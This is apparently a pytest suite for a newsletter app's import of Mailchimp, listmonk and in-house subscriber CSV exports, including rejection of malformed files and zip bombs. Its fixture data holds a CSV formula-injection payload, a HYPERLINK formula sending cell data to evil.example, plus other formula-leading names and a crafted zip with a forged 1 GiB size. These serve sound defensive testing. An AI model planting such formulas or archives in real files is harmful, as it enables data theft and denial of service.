"""Reading import files: Mailchimp's audience export (its CSVs and their zip), listmonk's subscriber export,
our own export read back; and files that are empty, binary, in another encoding, zip bombs or damaged rows."""

from __future__ import annotations

import io
import shutil
import subprocess
import zipfile
from dataclasses import fields
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest
import sqlalchemy as sa

from newsletter import import_formats
from newsletter.extensions import db
from newsletter.import_formats import Detected, FormatError, SourceRow, detect, read_rows
from newsletter.models import Newsletter, Reader, Subscription

DATA = Path(__file__).parent / "data" / "imports"
SUBSCRIBED = "subscribed_members_export_7f3a9c2e1b.csv"
UNSUBSCRIBED = "unsubscribed_members_export_7f3a9c2e1b.csv"
CLEANED = "cleaned_members_export_7f3a9c2e1b.csv"
UTC = timezone.utc
MAILCHIMP_HEADER = ('"Email Address","First Name","Last Name",MEMBER_RATING,OPTIN_TIME,OPTIN_IP,CONFIRM_TIME,'
                    'CONFIRM_IP,LATITUDE,LONGITUDE,GMTOFF,DSTOFF,TIMEZONE,CC,REGION,LAST_CHANGED,LEID,EUID,NOTES,TAGS')


def rows(path: Path, requested: str = "auto", name: str | None = None) -> tuple[Detected, list[SourceRow]]:
    detected = detect(path, requested, name=name)
    return detected, list(read_rows(path, detected))


def write(tmp_path: Path, name: str, content: bytes | str) -> Path:
    path = tmp_path / name
    path.write_bytes(content.encode("utf-8") if isinstance(content, str) else content)
    return path


def mailchimp_row(email: str, *, first: str = "Ann", optin: str = "2020-01-02 03:04:05", changed: str = "") -> str:
    return f'{email},{first},Smith,2,"{optin}",192.0.2.1,,,,,,,,,,"{changed}",1,abc,,'


# --- Mailchimp -----------------------------------------------------------------------------------


def test_mailchimp_subscribed_export_gives_status_from_proof_of_opt_in():
    detected, read = rows(DATA / SUBSCRIBED)
    assert detected.format == "mailchimp" and detected.files == [SUBSCRIBED]
    assert detected.columns["email"] == "Email Address"
    assert detected.columns["name"] == "First Name + Last Name"
    assert detected.columns["changed_at"] == "LAST_CHANGED"
    assert "MEMBER_RATING" in detected.ignored and "TAGS" in detected.ignored and "LEID" in detected.ignored
    anna, max_, by_hand, spaced = read
    assert (anna.line, anna.email, anna.name, anna.status) == (2, "anna.kovalenko@example.com", "Anna Kovalenko",
                                                               "subscribed")
    assert anna.optin_time == datetime(2018, 2, 12, 17, 59, 31, tzinfo=UTC)
    assert anna.confirm_time == datetime(2018, 2, 12, 18, 6, 58, tzinfo=UTC)
    assert (anna.optin_ip, anna.confirm_ip) == ("198.51.100.23", "198.51.100.23")
    assert anna.changed_at == datetime(2018, 2, 12, 18, 6, 58, tzinfo=UTC) and anna.problem is None
    # A confirmation time alone is proof enough.
    assert (max_.status, max_.optin_time, max_.confirm_ip) == ("subscribed", None, "203.0.113.9")
    # Neither time: subscribed without proof. Its NOTES cell spans two lines, so the next row starts on line 6.
    assert (by_hand.line, by_hand.status, by_hand.name) == (4, "unconfirmed", "O'Brien, Jr.")
    assert (by_hand.optin_time, by_hand.confirm_time) == (None, None)
    assert (spaced.line, spaced.email, spaced.name, spaced.optin_ip) == (6, "Spaced.Out@Example.ORG", "Zoë",
                                                                         "2001:db8::1")


def test_mailchimp_unsubscribed_and_cleaned_exports():
    detected, (left, quiet) = rows(DATA / UNSUBSCRIBED)
    assert detected.columns["unsubscribed_at"] == "UNSUB_TIME"
    assert "UNSUB_REASON" in detected.ignored and "UNSUB_CAMPAIGN_TITLE" in detected.ignored
    assert (left.status, left.name) == ("unsubscribed", "Lena Fischer")
    assert left.unsubscribed_at == datetime(2021, 6, 30, 7, 15, tzinfo=UTC)
    assert left.optin_time == datetime(2019, 3, 11, 17, 33, 27, tzinfo=UTC)  # the history carries over
    assert (quiet.status, quiet.name, quiet.line) == ("unsubscribed", None, 3)
    assert quiet.changed_at == quiet.unsubscribed_at  # no LAST_CHANGED in the file: the latest time it has

    detected, (bounced,) = rows(DATA / CLEANED)
    assert detected.columns["cleaned_at"] == "CLEAN_TIME"
    assert (bounced.status, bounced.email) == ("cleaned", "bounced@nonexistent.example")
    assert bounced.cleaned_at == datetime(2022, 1, 15, 3, tzinfo=UTC)


def test_mailchimp_status_comes_from_the_columns_not_the_file_name(tmp_path):
    renamed = write(tmp_path, "members.csv", (DATA / UNSUBSCRIBED).read_bytes())
    assert {row.status for row in rows(renamed)[1]} == {"unsubscribed"}
    # An audience field that its owner named UNSUB_TIME (before Mailchimp's own columns) decides nothing.
    header = ('"Email Address",Name,UNSUB_TIME,UNSUB_REASON,MEMBER_RATING,OPTIN_TIME,OPTIN_IP,CONFIRM_TIME,'
              'CONFIRM_IP,LAST_CHANGED,LEID,EUID,NOTES\n')
    path = write(tmp_path, "unsubscribed_members_export_x.csv",
                 header + 'rick@example.com,"Rick H",,,2,,,"2013-06-25 17:38:27",,"2013-06-27 12:11:50",44877845,c2,\n')
    (row,) = rows(path)[1]
    assert (row.status, row.unsubscribed_at, row.name) == ("subscribed", None, None)
    assert row.confirm_time == datetime(2013, 6, 25, 17, 38, 27, tzinfo=UTC)


def test_a_localized_mailchimp_export_is_recognized_by_mailchimps_own_columns():
    detected, (row,) = rows(DATA / "subscribed_members_export_de.csv")
    assert detected.format == "mailchimp"
    assert (detected.columns["email"], detected.columns["name"]) == ("Emailadresse", "Vorname + Nachname")
    assert "Erlaubnis zum Marketing" in detected.ignored
    assert (row.email, row.name, row.status) == ("peter@example.ch", "Peter Beispiel", "subscribed")


def test_mailchimp_zip_reads_each_csv_in_order_and_ignores_other_files(tmp_path):
    path = tmp_path / "audience_export_7f3a9c2e1b.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("README.txt", "not a member list")
        archive.writestr("exports/", "")
        for name in (SUBSCRIBED, UNSUBSCRIBED, CLEANED):
            archive.write(DATA / name, name)
    detected, read = rows(path, name="audience.zip")
    assert detected.format == "mailchimp"
    assert detected.files == [SUBSCRIBED, UNSUBSCRIBED, CLEANED]
    assert {"unsubscribed_at", "cleaned_at", "changed_at"} <= set(detected.columns)
    assert [(row.file, row.line, row.status) for row in read] == [
        (SUBSCRIBED, 2, "subscribed"), (SUBSCRIBED, 3, "subscribed"), (SUBSCRIBED, 4, "unconfirmed"),
        (SUBSCRIBED, 6, "subscribed"), (UNSUBSCRIBED, 2, "unsubscribed"), (UNSUBSCRIBED, 3, "unsubscribed"),
        (CLEANED, 2, "cleaned"),
    ]
    assert read == rows(DATA / SUBSCRIBED)[1] + rows(DATA / UNSUBSCRIBED)[1] + rows(DATA / CLEANED)[1]


def test_a_zip_mixing_formats_is_refused(tmp_path):
    path = tmp_path / "mixed.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.write(DATA / SUBSCRIBED, SUBSCRIBED)
        archive.write(DATA / "listmonk_subscribers.csv", "listmonk_subscribers.csv")
    with pytest.raises(FormatError, match="not all of one format.*listmonk_subscribers.csv \\(listmonk\\)"):
        detect(path)


# --- listmonk ------------------------------------------------------------------------------------


def test_listmonk_export_statuses_and_go_times():
    detected, (enabled, blocked, disabled) = rows(DATA / "listmonk_subscribers.csv")
    assert detected.format == "listmonk"
    assert detected.columns == {"email": "email", "name": "name", "status": "status", "changed_at": "updated_at"}
    assert detected.ignored == ["uuid", "attributes", "created_at"]
    # Enabled, but the file says nothing of its lists: no proof of opt-in.
    assert (enabled.status, enabled.name, enabled.optin_time) == ("unconfirmed", "Enabled Reader", None)
    assert enabled.changed_at == datetime(2024, 3, 1, 8, 0, 0, 500000, tzinfo=UTC)
    assert (blocked.status, blocked.problem) == ("unsubscribed", None)
    assert blocked.unsubscribed_at == blocked.changed_at == datetime(2024, 2, 10, 12, 0, 0, 987654, tzinfo=UTC)
    assert (disabled.status, disabled.name) == ("unsubscribed", None)


def test_listmonk_per_list_subscription_status_when_the_file_has_it(tmp_path):
    path = write(tmp_path, "subscribers.csv", (
        "uuid,email,name,attributes,status,created_at,updated_at,subscription_status\n"
        "u1,c@example.com,C,{},enabled,2023-05-02 09:15:00 +0530 IST,2024-01-01 00:00:00 +0000 UTC,confirmed\n"
        "u2,u@example.com,U,{},enabled,2023-05-02 09:15:00 +0000 UTC,2024-01-01 00:00:00 +0000 UTC,unconfirmed\n"
        "u3,x@example.com,X,{},enabled,2023-05-02 09:15:00 +0000 UTC,2024-01-01 00:00:00 +0000 UTC,unsubscribed\n"
        "u4,b@example.com,B,{},blocklisted,2023-05-02 09:15:00 +0000 UTC,2024-01-01 00:00:00 +0000 UTC,confirmed\n"
        "u5,q@example.com,Q,{},paused,2023-05-02 09:15:00 +0000 UTC,2024-01-01 00:00:00 +0000 UTC,confirmed\n"
        "u6,t@example.com,T,{},enabled,yesterday,2024-01-01 00:00:00 +0000 UTC,confirmed\n"
    ))
    detected, (confirmed, unconfirmed, unsubscribed, blocked, unknown, bad_time) = rows(path)
    assert detected.columns["status"] == "status + subscription_status"
    assert confirmed.status == "subscribed"
    assert confirmed.optin_time == confirmed.confirm_time == datetime(2023, 5, 2, 3, 45, tzinfo=UTC)
    assert (unconfirmed.status, unsubscribed.status, blocked.status) == ("unconfirmed", "unsubscribed", "unsubscribed")
    assert unknown.problem == "Unknown listmonk status 'paused': expected enabled, disabled, blocklisted."
    assert bad_time.problem == "created_at is not a time: 'yesterday'."


# --- Our own export ------------------------------------------------------------------------------

OUR_READERS = [  # email, name, status
    ("plain@example.org", "Олена Коваленко", "confirmed"),
    ("waiting@example.org", None, "pending"),
    ("gone@example.org", "Gone Reader", "unsubscribed"),
    ("=1+2@example.org", '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "confirmed"),
    ("-dash@example.org", 'Smith, "Jo"\nline two', "pending"),
    ("at@example.org", "@SUM(A1:A9)", "confirmed"),
    ("tab@example.org", "\t=x", "unsubscribed"),
    ("cr@example.org", "\r=x", "confirmed"),
    ("inner@example.org", "a=b+c-d@e", "confirmed"),
    ("quote@example.org", "'=already quoted", "confirmed"),
    ("spaces@example.org", " padded name ", "confirmed"),
]


def add_subscriptions(app) -> dict[str, tuple]:
    """OUR_READERS in daily-briefing (and the confirmed ones in weekly-explainer too): their stored values."""
    base = datetime(2025, 3, 1, 12, 0, tzinfo=UTC)
    with app.app_context():
        ids = dict(db.session.execute(sa.text("SELECT slug, id FROM newsletters")).all())
        for number, (email, name, status) in enumerate(OUR_READERS):
            reader = Reader(email=email, name=name)
            db.session.add(reader)
            db.session.flush()
            slugs = ["daily-briefing"] + (["weekly-explainer"] if status == "confirmed" else [])
            for slug in slugs:
                created = base + timedelta(days=number)
                db.session.add(Subscription(
                    reader_id=reader.id, newsletter_id=ids[slug], status=status, created_at=created,
                    confirmed_at=created + timedelta(hours=2) if status != "pending" else None,
                    unsubscribed_at=created + timedelta(days=1) if status == "unsubscribed" else None))
        db.session.commit()
        query = (sa.select(Reader.email, Newsletter.slug, Reader.name, Subscription.status, Subscription.created_at,
                           Subscription.confirmed_at)
                 .join(Subscription, Subscription.reader_id == Reader.id)
                 .join(Newsletter, Newsletter.id == Subscription.newsletter_id))
        stored = {(email, slug): rest for email, slug, *rest in db.session.execute(query)}
        db.session.remove()
    return stored


EXPECTED_STATUS = {"confirmed": "subscribed", "pending": "unconfirmed", "unsubscribed": "unsubscribed"}


def test_our_own_export_reads_back_unchanged(app, runner, tmp_path):
    stored = add_subscriptions(app)
    one = tmp_path / "daily-briefing.csv"
    result = runner.invoke(args=["export", "daily-briefing", "-o", str(one)])
    assert result.exit_code == 0, result.output
    assert b"'=HYPERLINK" in one.read_bytes()  # the export did neutralize it

    detected, read = rows(one)
    assert detected.format == "csv"
    assert detected.columns == {"email": "email", "name": "name", "status": "status", "optin_time": "subscribed_at",
                                "confirm_time": "confirmed_at"}
    assert detected.ignored == ["source"]
    assert len(read) == len(OUR_READERS) and not any(row.problem for row in read)
    for row in read:
        name, status, created, confirmed = stored[(row.email, "daily-briefing")]
        if name == "'=already quoted":
            # The one loss: the export leaves a cell that starts with ' alone, so this reads as neutralized.
            name = "=already quoted"
        assert (row.name, row.status, row.newsletter) == (name, EXPECTED_STATUS[status], None)
        if status == "confirmed":
            assert (row.optin_time, row.confirm_time, row.changed_at) == (created, confirmed, confirmed)
        elif status == "pending":
            assert (row.optin_time, row.confirm_time, row.changed_at) == (None, None, created)
        else:
            assert (row.optin_time, row.confirm_time, row.unsubscribed_at) == (created, confirmed, None)
    # The row whose name holds a line break takes two lines: the ones after it count them.
    lines = [row.line for row in read]
    assert lines[:5] == [2, 3, 4, 5, 6] and lines[5] == 8

    every = tmp_path / "all.csv"
    assert runner.invoke(args=["export", "all", "-o", str(every)]).exit_code == 0
    detected, read = rows(every)
    assert detected.columns["newsletter"] == "newsletter"
    assert {(row.email, row.newsletter) for row in read} == set(stored)
    assert all(row.name == stored[(row.email, row.newsletter)][0] for row in read if row.email != "quote@example.org")


def test_a_spreadsheet_in_our_format_with_neutralized_cells_and_no_status(tmp_path):
    path = write(tmp_path, "sheet.csv", "Email,Name,confirmed_at\r\n'=a@example.org,'+Ann,2026-01-31T09:30:00Z\r\n"
                                        "b@example.org,'plain quote,\r\n")
    detected, (first, second) = rows(path)
    assert detected.format == "csv"
    assert (first.email, first.name, first.status) == ("=a@example.org", "+Ann", "subscribed")
    assert first.confirm_time == datetime(2026, 1, 31, 9, 30, tzinfo=UTC)
    assert (second.name, second.status) == ("'plain quote", "unconfirmed")  # no formula after the quote: kept


# --- Encodings, delimiters, line numbers ---------------------------------------------------------


def test_utf8_with_a_byte_order_mark_and_crlf_line_ends(tmp_path):
    text = MAILCHIMP_HEADER + "\r\n" + mailchimp_row("bom@example.com", first="Zoë") + "\r\n"
    path = write(tmp_path, "bom.csv", b"\xef\xbb\xbf" + text.encode("utf-8"))
    detected, (row,) = rows(path)
    assert detected.columns["email"] == "Email Address"  # not "\ufeffEmail Address"
    assert (row.email, row.name, row.line) == ("bom@example.com", "Zoë Smith", 2)


def test_semicolons_when_the_header_uses_them(tmp_path):
    path = write(tmp_path, "excel.csv", "email;name;status;subscribed_at;confirmed_at;source\n"
                                        "semi@example.org;Ann, the first;confirmed;2026-01-01T00:00:00Z;;import\n")
    (row,) = rows(path)[1]
    assert (row.email, row.name, row.status) == ("semi@example.org", "Ann, the first", "subscribed")


def test_blank_rows_are_skipped_and_lines_still_counted(tmp_path):
    text = "\n".join([MAILCHIMP_HEADER, mailchimp_row("a@example.com"), "", ",,,,,,,,,,,,,,,,,,,",
                      '"b@example.com","Multi\nLine",Smith,2,,,,,,,,,,,,,1,abc,,', "", mailchimp_row("c@example.com")])
    read = rows(write(tmp_path, "blank.csv", text + "\n"))[1]
    assert [(row.email, row.line) for row in read] == [("a@example.com", 2), ("b@example.com", 5),
                                                       ("c@example.com", 8)]
    assert read[1].name == "Multi\nLine Smith"


def test_a_header_only_file_has_no_rows(tmp_path):
    detected, read = rows(write(tmp_path, "header.csv", MAILCHIMP_HEADER + "\n"))
    assert detected.format == "mailchimp" and read == []


BAD_ROWS = [  # the row as bytes (after a Mailchimp header), the problem it gets
    (mailchimp_row("few@example.com")[:-3].encode(), "This row has 18 cells where the header has 20."),
    ((mailchimp_row("many@example.com") + ",x").encode(), "This row has 21 cells where the header has 20."),
    (mailchimp_row("date@example.com", optin="2020-13-45 99:00:00").encode(),
     "OPTIN_TIME is not a time: '2020-13-45 99:00:00'."),
    (mailchimp_row("changed@example.com", changed="last week").encode(), "LAST_CHANGED is not a time: 'last week'."),
    (mailchimp_row("nul@example.com", first="A\x00nn").encode(),
     "This row holds a NUL byte or bytes that are not UTF-8."),
    (mailchimp_row("latin@example.com", first="Zoë").encode("latin-1"),
     "This row holds a NUL byte or bytes that are not UTF-8."),
    # A UTF-16 surrogate encoded as UTF-8 (CESU-8, "WTF-8"): not UTF-8.
    (mailchimp_row("surrogate@example.com").encode().replace(b"Ann", b"A\xed\xa0\x80nn"),
     "This row holds a NUL byte or bytes that are not UTF-8."),
    (mailchimp_row("n\x00ul@example.com").encode(), "This row holds a NUL byte or bytes that are not UTF-8."),
    (mailchimp_row("huge@example.com", first='"' + "x" * 200_000 + '"').encode(),
     "This row has a cell longer than 128 kB."),
]


@pytest.mark.parametrize("bad, problem", BAD_ROWS)
def test_a_bad_row_is_reported_with_its_line_and_the_rest_is_read(tmp_path, bad, problem):
    content = "\n".join([MAILCHIMP_HEADER, mailchimp_row("before@example.com"), ""]).encode() + bad + \
        ("\n" + mailchimp_row("after@example.com") + "\n").encode()
    before, row, after = rows(write(tmp_path, "bad.csv", content))[1]
    assert (before.problem, after.problem, after.line) == (None, None, 4)
    assert (row.line, row.problem) == (3, problem)
    # What is shown of a bad row can be stored and printed: no NUL, no lone surrogate.
    row.email.encode("utf-8")
    assert "\x00" not in row.email and (row.name or "").isprintable()


def test_bytes_that_are_not_utf8_deep_in_a_big_file_flag_their_rows_only(tmp_path):
    good = [mailchimp_row(f"r{number}@example.com") for number in range(3000)]  # well past detect's sample
    bad = [mailchimp_row(f"bad{number}@example.com", first="Zoë") for number in range(3)]
    content = ("\n".join([MAILCHIMP_HEADER, *good]) + "\n").encode() + \
        "\n".join(bad).encode("latin-1") + ("\n" + "\n".join(good[:10]) + "\n").encode()
    read = rows(write(tmp_path, "big.csv", content))[1]
    assert len(read) == 3013
    flagged = [(row.line, row.email) for row in read if row.problem]
    assert flagged == [(3002, "bad0@example.com"), (3003, "bad1@example.com"), (3004, "bad2@example.com")]
    assert read[-1].line == 3014 and read[-1].problem is None


# --- Files refused as a whole --------------------------------------------------------------------


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


LATIN1 = (MAILCHIMP_HEADER + "\n" + "\n".join(mailchimp_row(f"r{n}@example.com", first="Zoë") for n in range(5))
          + "\n").encode("latin-1")
BAD_FILES = [  # name, content, the error's words
    ("empty.csv", b"", "the file is empty"),
    ("bom-only.csv", b"\xef\xbb\xbf", "the file is empty"),
    ("blank-first-line.csv", b"\n" + MAILCHIMP_HEADER.encode(), "the first line must be the header"),
    ("latin1.csv", LATIN1, "not UTF-8 (it looks like Windows-1252 or Latin-1, what Excel saves as \"CSV\" in "
                           "Western Europe): save it as UTF-8 CSV"),
    ("latin1-header.csv", "Adresse électronique,Prénom\n".encode("latin-1"), "not UTF-8"),
    # A short file: its one row is the whole sample, and none of it is UTF-8.
    ("latin1-one-row.csv", (MAILCHIMP_HEADER + "\n" + mailchimp_row("r@example.com", first="Zoë")).encode("latin-1"),
     "not UTF-8 (it looks like Windows-1252 or Latin-1"),
    ("latin1-two-rows.csv", (MAILCHIMP_HEADER + "\n" + mailchimp_row("r@example.com", first="Zoë") + "\n"
                             + mailchimp_row("s@example.com", first="Anaïs") + "\n").encode("latin-1"), "not UTF-8"),
    ("utf16.csv", "\ufeffemail,name\r\na@example.org,A\r\n".encode("utf-16-le"), "it looks like UTF-16"),
    ("utf16-no-bom.csv", "email,name\r\na@example.org,A\r\n".encode("utf-16-le"), "it looks like UTF-16"),
    ("wrong-header.csv", b"id,address,full name\n1,a@example.org,A\n",
     'no "Email Address" or "email" column: the header has "id", "address", "full name"'),
    ("image.csv", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00" + bytes(range(256)), "binary file"),
    ("report.csv", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "PDF document"),
    ("long.csv", b"email," + b"x" * (70 * 1024) + b"\n", "first line is longer than 64 kB"),
    ("nothing.zip", _zip({"README.txt": b"hello", "logo.png": b"\x89PNG"}),
     "the zip holds no CSV file (it holds README.txt, logo.png)"),
    ("nested.zip", _zip({"subscribed_members_export_1.csv": MAILCHIMP_HEADER.encode(),
                         "inner.zip": _zip({"a.csv": b"email\n"})}), "the zip holds another zip (inner.zip)"),
    ("workbook.csv", _zip({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"}),
     "Excel workbook (.xlsx)"),
    ("broken.zip", b"PK\x03\x04" + b"\x00" * 40, "can't be opened (damaged or incomplete)"),
]


@pytest.mark.parametrize("name, content, words", BAD_FILES, ids=[name for name, _, _ in BAD_FILES])
def test_a_file_that_cant_be_imported_gets_a_specific_error(tmp_path, name, content, words):
    with pytest.raises(FormatError) as raised:
        detect(write(tmp_path, "upload.bin", content), name=name)
    assert words in str(raised.value)
    assert str(raised.value).startswith(name)


def test_a_zip_bomb_member_is_refused_before_it_is_unpacked(tmp_path, monkeypatch):
    path = write(tmp_path, "bomb.zip", _zip({"subscribed_members_export_1.csv":
                                             MAILCHIMP_HEADER.encode() + b"\n" + b"0" * (8 << 20)}))
    info = zipfile.ZipFile(path).infolist()[0]
    assert info.file_size > 200 * info.compress_size
    detect(path)  # 8 MB is no bomb under the real limit (50 MB)
    monkeypatch.setattr(import_formats, "ZIP_MAX_MEMBER_BYTES", 1 << 20)
    with pytest.raises(FormatError, match=r"would unpack to 8,388,\d{3} bytes from [\d,]+: that is no export"):
        detect(path)


@pytest.mark.skipif(shutil.which("zip") is None, reason="the zip command makes the encrypted zip")
def test_an_encrypted_zip_is_refused(tmp_path):
    shutil.copy(DATA / SUBSCRIBED, tmp_path / SUBSCRIBED)
    subprocess.run(["zip", "-q", "-P", "secret", "locked.zip", SUBSCRIBED], cwd=tmp_path, check=True)
    with pytest.raises(FormatError, match="is encrypted \\(the zip has a password\\)"):
        detect(tmp_path / "locked.zip")


REQUESTED = [  # file, requested format, the error's words
    (SUBSCRIBED, "listmonk", "this is not a listmonk subscriber export: it has no email or status column"),
    (SUBSCRIBED, "csv", 'no "email" column: the header has "Email Address", "First Name"'),
    ("listmonk_subscribers.csv", "mailchimp", 'this is not a Mailchimp audience export: there is no "Email Address"'),
    ("listmonk_subscribers.csv", "excel", "Unknown format 'excel': use auto, mailchimp, listmonk, csv."),
]


@pytest.mark.parametrize("file, requested, words", REQUESTED)
def test_a_requested_format_still_needs_its_columns(file, requested, words):
    with pytest.raises(FormatError) as raised:
        detect(DATA / file, requested)
    assert words in str(raised.value)


def test_a_requested_format_reads_a_file_auto_would_read_otherwise(tmp_path):
    # A listmonk file read as a plain spreadsheet: the subscriber status isn't ours, so each row says so.
    detected, read = rows(DATA / "listmonk_subscribers.csv", "csv")
    assert detected.format == "csv"
    assert [row.problem for row in read][0] == "Unknown status 'enabled': expected confirmed, pending, unsubscribed."


# --- The rows themselves -------------------------------------------------------------------------


def test_every_row_status_is_one_the_import_knows():
    statuses = {row.status for name in (SUBSCRIBED, UNSUBSCRIBED, CLEANED, "listmonk_subscribers.csv")
                for row in rows(DATA / name)[1]}
    assert statuses == set(import_formats.ROW_STATUSES)


def test_a_gigabyte_member_of_a_megabyte_zip_is_refused_from_its_declared_size(tmp_path):
    """The real limits: a 1 GiB member packed 1000 times is refused before a byte is unpacked."""
    path = write(tmp_path, "export.zip", _zip({"subscribed_members_export_1.csv": MAILCHIMP_HEADER.encode()}))
    data = bytearray(path.read_bytes())
    # The declared (uncompressed) size, in the local header and the central directory: 1 GiB.
    archive = zipfile.ZipFile(path)
    info = archive.infolist()[0]
    archive.close()
    size = (1 << 30).to_bytes(4, "little")
    data[22:26] = size  # local file header
    central = data.index(b"PK\x01\x02")
    data[central + 24:central + 28] = size
    path.write_bytes(bytes(data))
    assert info.compress_size < 1 << 20
    with pytest.raises(FormatError, match=r"would unpack to 1,073,741,824 bytes from [\d,]+: that is no export"):
        detect(path)


def test_a_line_longer_than_the_cap_stops_the_read_with_its_number(tmp_path, monkeypatch):
    """csv reads a whole line before its cells: one endless line must not be held in memory."""
    monkeypatch.setattr(import_formats, "LINE_MAX_BYTES", 4096)
    content = (MAILCHIMP_HEADER + "\n" + mailchimp_row("ann@example.com") + "\n").encode() + b"x" * 10_000 + \
        ("\n" + mailchimp_row("bob@example.com") + "\n").encode()
    path = write(tmp_path, "giant.csv", content)
    detected = detect(path)
    read = []
    with pytest.raises(FormatError, match=r"^giant.csv: line 3 is longer than 4,096 bytes: this is not a list of "
                                          r"readers\.$"):
        for row in read_rows(path, detected):
            read.append(row.email)
    assert read == ["ann@example.com"]
    # A long line split by line breaks inside a quoted cell is no trouble: each physical line is short.
    quoted = (MAILCHIMP_HEADER + "\n").encode() + b'carol@example.com,"' + b"y" * 3000 + b"\n" + b"y" * 3000 + \
        b'",Smith,2,"2020-01-02 03:04:05",192.0.2.1,,,,,,,,,,"",1,abc,,\n'
    path = write(tmp_path, "quoted.csv", quoted)
    assert [row.email for row in read_rows(path, detect(path))] == ["carol@example.com"]


def test_a_line_longer_than_the_cap_in_a_zip_member_stops_the_read(tmp_path, monkeypatch):
    monkeypatch.setattr(import_formats, "LINE_MAX_BYTES", 4096)
    member = (MAILCHIMP_HEADER + "\n" + mailchimp_row("ann@example.com") + "\n").encode() + b"," * 100_000
    path = write(tmp_path, "export.zip", _zip({"subscribed_members_export_1.csv": member}))
    with pytest.raises(FormatError, match=r"^subscribed_members_export_1.csv: line 3 is longer than 4,096 bytes"):
        list(read_rows(path, detect(path)))


def test_the_real_line_cap_reads_an_export_unchanged():
    path = DATA / SUBSCRIBED
    assert import_formats.LINE_MAX_BYTES == 1 << 20
    assert all(row.email for row in read_rows(path, detect(path)))


def test_a_time_in_the_future_is_no_proof_and_an_ip_that_is_none_is_dropped(tmp_path):
    soon = (datetime.now(UTC) + timedelta(minutes=2)).strftime("%Y-%m-%d %H:%M:%S")  # clock skew: fine
    content = "\n".join([
        MAILCHIMP_HEADER,
        mailchimp_row("typo@example.com", optin="2099-01-01 00:00:00"),
        mailchimp_row("changed@example.com", changed="2099-01-01 00:00:00"),
        mailchimp_row("skew@example.com", optin=soon),
        '"ip@example.com",Ann,Smith,2,"2020-01-02 03:04:05",not an ip,"2020-01-02 03:05:00",2001:DB8::1,,,,,,,,,1,a,,',
    ]) + "\n"
    read = {row.email: row for row in rows(write(tmp_path, "members.csv", content))[1]}
    assert read["typo@example.com"].problem == ("The opt-in time is in the future (2099-01-01 00:00:00 UTC): it "
                                                "proves nothing.")
    assert read["changed@example.com"].problem == ("The time of the last change is in the future (2099-01-01 "
                                                   "00:00:00 UTC): it proves nothing.")
    assert read["skew@example.com"].problem is None
    assert (read["ip@example.com"].optin_ip, read["ip@example.com"].confirm_ip) == (None, "2001:db8::1")
    # listmonk's times too.
    listmonk = write(tmp_path, "listmonk.csv", "uuid,email,name,attributes,status,created_at,updated_at\n"
                     "u1,lm@example.com,L,{},blocklisted,2020-01-01 00:00:00 +0000 +0000,"
                     "2099-05-05 00:00:00 +0000 +0000\n")
    [row] = rows(listmonk)[1]
    assert row.problem and "in the future" in row.problem
